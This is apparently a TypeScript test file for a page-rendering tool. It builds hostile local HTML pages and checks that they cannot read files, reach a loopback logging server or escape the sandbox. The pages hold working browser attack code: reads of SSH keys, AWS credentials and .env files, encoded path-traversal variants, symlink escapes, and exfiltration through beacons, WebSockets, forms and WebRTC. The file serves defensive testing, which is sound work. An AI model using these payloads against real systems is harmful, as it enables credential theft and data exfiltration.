/**
 * Hostile local pages (SECURITY.md): each page below performs one kind of attack, with as many
 * variations as fit, and shows whatever it obtained in its own article, so that a leak would come
 * out in the record. One `viseg extract` batch renders them all beside two ordinary pages. The
 * tests assert that no secret marker appears anywhere in the output, that the logging server (a
 * loopback service that is not viseg's) saw nothing at all, that every page was read before its
 * deadline could end it, that the attacks did run, and that the ordinary pages came out right.
 */
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { haveChromium, parseJsonl, runCli, tempDir, type Rec } from '../batch/helpers.js';
import { hostilePage, startLogger, type Logger } from './hostile-kit.js';

const MARK = {
  ssh: 'MARK-SSH-KEY-5e1d',
  aws: 'MARK-AWS-CRED-5e1d',
  env: 'MARK-DOTENV-5e1d',
  outside: 'MARK-OUTSIDE-5e1d',
  other: 'MARK-OTHER-INPUT-5e1d',
  logger: 'LOGGER-REACHED',
};
const TIMEOUT = 60_000;

let dir: string;
let logger: Logger;
let records: Map<string, Rec>;
let jsonl: string;

/** Every spelling of "this machine" a page could use to reach the logger. */
function loggerHosts(l: Logger): string[] {
  const p = l.port;
  return [
    `127.0.0.1:${p}`,
    `localhost:${p}`,
    `viseg.localhost:${p}`,
    `0.0.0.0:${p}`,
    `127.1:${p}`,
    `2130706433:${p}`,
    `[::ffff:127.0.0.1]:${p}`,
    ...(l.v6Port ? [`[::1]:${l.v6Port}`, `[0:0:0:0:0:0:0:1]:${l.v6Port}`] : []),
  ];
}

function pages(l: Logger, outsideFile: string): Record<string, string> {
  const hosts = JSON.stringify(loggerHosts(l));
  // windows are costly to open and close: the main spellings of loopback only
  const popupHosts = JSON.stringify([`127.0.0.1:${l.port}`, `localhost:${l.port}`, ...(l.v6Port ? [`[::1]:${l.v6Port}`] : [])]);
  const log = `http://127.0.0.1:${l.port}`;
  const fileUrl = pathToFileURL(outsideFile).href;
  return {
    // 1. files around the page: dotfiles, symlinks out (to a folder and to a file), traversal
    'evil-files.html': hostilePage(
      'Files',
      `(async () => {
        const targets = ['.ssh/id_rsa', '.aws/credentials', '.env', '%2eenv', 'rootlink/secret.txt', 'filelink.txt', 'envlink.txt',
          '../outside/secret.txt', '%2e%2e/outside/secret.txt', '..%2foutside%2fsecret.txt', '%252e%252e/outside/secret.txt',
          '.%2e/outside/secret.txt', '..%5coutside%5csecret.txt', '..\\\\outside\\\\secret.txt', '/outside/secret.txt',
          ${JSON.stringify(fileUrl)}, ${JSON.stringify(outsideFile)}];
        for (const t of targets) await grab(t);
        for (const t of ['.ssh/id_rsa', 'rootlink/secret.txt', ${JSON.stringify(fileUrl)}]) {
          const f = document.createElement('iframe'); f.src = t; document.body.append(f);
          await new Promise((r) => { f.onload = r; f.onerror = r; setTimeout(r, 400); });
          try { show('iframe ' + t, f.contentDocument.body.innerText); } catch (e) { show('iframe ' + t, 'refused'); }
        }
        const x = new XMLHttpRequest();
        try { x.open('GET', '.aws/credentials', false); x.send(); show('xhr', x.status + ' ' + x.responseText); } catch (e) { show('xhr', 'refused'); }
        done();
      })();`,
    ),
    // 1. another input's folder: guessed mount paths, other ports, what the page can learn of other URLs
    'evil-cross.html': hostilePage(
      'Cross',
      `(async () => {
        const here = new URL(location.href);
        const guesses = ['../../m/1/secret.txt', '/m/1/secret.txt', '/m/2/secret.txt', '/m/3/page.html', '/d/1/stdin.html', '../other/secret.txt', '../../other/secret.txt'];
        for (const g of guesses) await grab(g);
        for (let k = -3; k <= 3; k++) {
          const port = Number(here.port) + k;
          if (k !== 0) await grab('http://127.0.0.1:' + port + here.pathname.replace(/[^/]*$/, '') + 'secret.txt');
          const w = window.open('http://127.0.0.1:' + port + '/m/1/secret.txt');
          await wait(20);
          try { show('popup ' + port, w && w.document.body.innerText); } catch (e) { show('popup ' + port, 'refused'); }
        }
        show('referrer', document.referrer); show('name', window.name);
        show('entries', performance.getEntries().map((e) => e.name).join(' '));
        done();
      })();`,
    ),
    // 3. every kind of sub-resource and request to a loopback service, under every spelling of it
    'evil-net.html': hostilePage(
      'Net',
      `(async () => {
        const add = (html) => { const d = document.createElement('div'); d.innerHTML = html; document.body.append(d); };
        for (const h of ${hosts}) {
          const b = 'http://' + h + '/';
          add('<img src="' + b + 'img"><script src="' + b + 'script.js"></scr' + 'ipt><link rel="stylesheet" href="' + b + 'style.css">' +
              '<link rel="prefetch" href="' + b + 'prefetch"><link rel="preconnect" href="' + b + '"><link rel="dns-prefetch" href="//' + h + '">' +
              '<link rel="preload" as="fetch" href="' + b + 'preload"><link rel="modulepreload" href="' + b + 'modpre.js">' +
              '<iframe src="' + b + 'iframe"></iframe><object data="' + b + 'object"></object><embed src="' + b + 'embed">' +
              '<video src="' + b + 'video"></video><audio src="' + b + 'audio"></audio>' +
              '<style>@import url("' + b + 'import.css"); @font-face { font-family: bomb; src: url("' + b + 'font.woff") } #found { font-family: bomb }</style>' +
              '<a id="ping" ping="' + b + 'ping" href="#pinged">ping</a>');
          document.querySelectorAll('a[ping]').forEach((a) => a.click());
          await grab(b + 'fetch');
          await grab(b + 'cors', { mode: 'no-cors' });
          try { show('beacon', navigator.sendBeacon(b + 'beacon', 'x')); } catch (e) { show('beacon', 'refused'); }
          try { const ws = new WebSocket('ws://' + h + '/ws'); ws.onopen = () => show('ws', 'open'); } catch (e) { show('ws', 'refused'); }
          try { const es = new EventSource(b + 'es'); es.onmessage = () => show('es', 'message'); } catch (e) { show('es', 'refused'); }
          try { await import(b + 'mod.js'); show('import', 'loaded'); } catch (e) { show('import', 'refused'); }
          try { new Worker(b + 'worker.js'); } catch (e) { show('worker', 'refused'); }
          const x = new XMLHttpRequest();
          try { x.open('GET', b + 'xhr', false); x.send(); show('xhr', x.responseText); } catch (e) { show('xhr', 'refused'); }
        }
        await wait(300);
        done();
      })();`,
    ),
    // 3. windows: window.open, a popup that opens its own, target=_blank links and forms (POST too)
    'evil-popup.html': hostilePage(
      'Popups',
      `(async () => {
        for (const h of ${popupHosts}) {
          const b = 'http://' + h + '/';
          window.open(b + 'open');
          const a = document.createElement('a'); a.href = b + 'blank-link'; a.target = '_blank'; document.body.append(a); a.click();
          const a2 = document.createElement('a'); a2.href = b + 'noopener'; a2.target = '_blank'; a2.rel = 'noopener'; document.body.append(a2); a2.click();
          for (const method of ['post', 'get']) {
            const f = document.createElement('form'); f.method = method; f.action = b + 'form-' + method; f.target = '_blank';
            const i = document.createElement('input'); i.name = 'leak'; i.value = 'x'; f.append(i); document.body.append(f); f.submit();
          }
        }
        const p = window.open('opener.html');
        await wait(500);
        try { show('own popup', p && p.document.body.innerText); } catch (e) { show('own popup', 'refused'); }
        done();
      })();`,
    ),
    'opener.html': hostilePage('Opener', `window.open(${JSON.stringify(log + '/from-popup')}); location.href = ${JSON.stringify(log + '/popup-nav')};`),
    // 3. the tab itself: a form POST, a meta refresh, location changes
    'evil-form.html': hostilePage(
      'Form',
      `setTimeout(() => { const f = document.createElement('form'); f.method = 'post'; f.action = ${JSON.stringify(log + '/form')};
        document.body.append(f); f.submit(); done(); }, 50);`,
    ),
    'evil-meta.html': hostilePage('Meta', `done();`, `<meta http-equiv="refresh" content="0;url=${log}/meta">`),
    'evil-location.html': hostilePage(
      'Location',
      `done(); setTimeout(() => { location.href = ${JSON.stringify(`http://localhost:${l.port}/location`)}; }, 50);
       setTimeout(() => { location.replace(${JSON.stringify(log + '/replace')}); }, 150);
       setTimeout(() => { location.assign(${JSON.stringify(fileUrl)}); }, 250);`,
    ),
    // 3. WebRTC: STUN and TURN (UDP and TCP) to the logger, which would bypass any proxy and CSP
    'evil-webrtc.html': hostilePage(
      'WebRTC',
      `(async () => {
        try {
          const pc = new RTCPeerConnection({ iceServers: [
            { urls: ['stun:127.0.0.1:${l.udpPort}', 'stun:localhost:${l.udpPort}'] },
            { urls: ['turn:127.0.0.1:${l.udpPort}?transport=udp', 'turn:127.0.0.1:${l.port}?transport=tcp'], username: 'u', credential: 'p' },
          ] });
          pc.createDataChannel('x');
          pc.onicecandidate = (e) => { if (e.candidate) show('candidate', e.candidate.candidate); };
          await pc.setLocalDescription(await pc.createOffer());
          await wait(1500);
          show('gathering', pc.iceGatheringState);
        } catch (e) { show('webrtc', 'refused ' + e); }
        done();
      })();`,
    ),
    // 10. service workers: registration fails, from the page and from a fresh frame's realm
    'evil-sw.html': hostilePage(
      'Service worker',
      `(async () => {
        const reg = async (label, c) => { try { await c.register('sw.js'); show(label, 'registered'); } catch (e) { show(label, 'rejected'); } };
        await reg('sw page', navigator.serviceWorker);
        const f = document.createElement('iframe'); document.body.append(f);
        await reg('sw fresh realm', f.contentWindow.navigator.serviceWorker);
        show('controllers', String(!!navigator.serviceWorker.controller));
        done();
      })();`,
    ),
    'sw.js': `self.addEventListener('fetch', (e) => e.respondWith(new Response('SW-CONTROLLED')));`,
  };
}

const ORDINARY = (title: string, marker: string) =>
  hostilePage(title, `show('ordinary', ${JSON.stringify(marker)}); done();`);

describe.skipIf(!haveChromium)('hostile local pages: nothing read, nothing reached, the run goes on', () => {
  beforeAll(async () => {
    logger = await startLogger();
    dir = tempDir('viseg-hostile-');
    const home = path.join(dir, 'home');
    const outside = path.join(dir, 'outside');
    const other = path.join(dir, 'other');
    for (const d of [home, outside, other, path.join(home, '.ssh'), path.join(home, '.aws')]) mkdirSync(d, { recursive: true });
    writeFileSync(path.join(home, '.ssh', 'id_rsa'), MARK.ssh);
    writeFileSync(path.join(home, '.aws', 'credentials'), MARK.aws);
    writeFileSync(path.join(home, '.env'), MARK.env);
    writeFileSync(path.join(outside, 'secret.txt'), MARK.outside);
    writeFileSync(path.join(other, 'secret.txt'), MARK.other);
    symlinkSync(outside, path.join(home, 'rootlink'));
    symlinkSync(path.join(outside, 'secret.txt'), path.join(home, 'filelink.txt'));
    symlinkSync(path.join(home, '.env'), path.join(home, 'envlink.txt'));
    for (const [name, html] of Object.entries(pages(logger, path.join(outside, 'secret.txt')))) writeFileSync(path.join(home, name), html);
    writeFileSync(path.join(home, 'ok.html'), ORDINARY('Ordinary home page', 'home page fine'));
    writeFileSync(path.join(other, 'page.html'), ORDINARY('Ordinary other page', 'other page fine'));
    const inputs = [
      'evil-files.html', 'evil-cross.html', 'evil-net.html', 'evil-popup.html', 'evil-form.html', 'evil-meta.html',
      'evil-location.html', 'evil-webrtc.html', 'evil-sw.html', 'ok.html',
    ].map((n) => path.join(home, n));
    inputs.splice(5, 0, path.join(other, 'page.html'));
    const out = path.join(dir, 'out.jsonl');
    const run = await runCli(['extract', ...inputs, '--out', out, '-c', '2', '-q', '--timeout', String(TIMEOUT), '--wait-for', '#attack-done'], { killAfterMs: 600_000 });
    jsonl = readFileSync(out, 'utf8');
    expect(run.code, run.stderr + jsonl.split('\n').filter((l) => l.includes('"ok":false')).join('\n')).toBe(0);
    records = new Map(parseJsonl(jsonl).map((r) => [path.basename(r.input), r]));
  }, 620_000);
  afterAll(async () => {
    await logger?.close();
  });

  // A page the deadline ends has PAGE_TIMEOUT and no content: an ok record with the attack's
  // report was read in time, whatever the machine's load.
  it('renders every page before its deadline, and the attacks ran', () => {
    expect([...records.keys()].sort()).toEqual([
      'evil-cross.html', 'evil-files.html', 'evil-form.html', 'evil-location.html', 'evil-meta.html', 'evil-net.html',
      'evil-popup.html', 'evil-sw.html', 'evil-webrtc.html', 'ok.html', 'page.html',
    ]);
    for (const [name, r] of records) {
      expect(r.ok, `${name}: ${JSON.stringify(r.error)}`).toBe(true);
      expect(r.error, name).toBeUndefined();
      expect(r.text, name).toContain('[attack => done]');
    }
  });

  it('no secret from around the page or from another input is in any output', () => {
    for (const m of [MARK.ssh, MARK.aws, MARK.env, MARK.outside, MARK.other, MARK.logger]) expect(jsonl).not.toContain(m);
    const files = records.get('evil-files.html')!;
    expect(files.text).toContain('[.ssh/id_rsa => 404 ');
    expect(files.text).toContain('[rootlink/secret.txt => 404 ');
  });

  it('the loopback service was never reached: no request, no connection, no STUN packet', () => {
    expect(logger.hits).toEqual([]);
    // a local page has no WebRTC at all (a full Chromium ignores the launch switch against UDP)
    expect(records.get('evil-webrtc.html')!.text).toContain('[webrtc => refused ');
  });

  it('service worker registration is refused, from the page and from a fresh realm', () => {
    const sw = records.get('evil-sw.html')!.text;
    expect(sw).toContain('sw page => rejected');
    expect(sw).toContain('sw fresh realm => rejected');
    expect(sw).toContain('controllers => false');
  });

  it('the pages that tried to navigate the tab away kept their own document', () => {
    for (const name of ['evil-form.html', 'evil-meta.html', 'evil-location.html']) {
      const r = records.get(name)!;
      expect(r.finalUrl, name).toMatch(new RegExp(`/${name.replace('.', '\\.')}$`));
    }
    expect(records.get('evil-popup.html')!.warnings.find((w) => w.code === 'POPUPS_CLOSED')?.message).toMatch(/windows the page opened were closed: \d+/);
  });

  it('the ordinary pages of the batch are right', () => {
    expect(records.get('ok.html')!.text).toContain('home page fine');
    expect(records.get('page.html')!.text).toContain('other page fine');
    expect(records.get('page.html')!.text).toContain('The harbour office opened its records');
  });
});
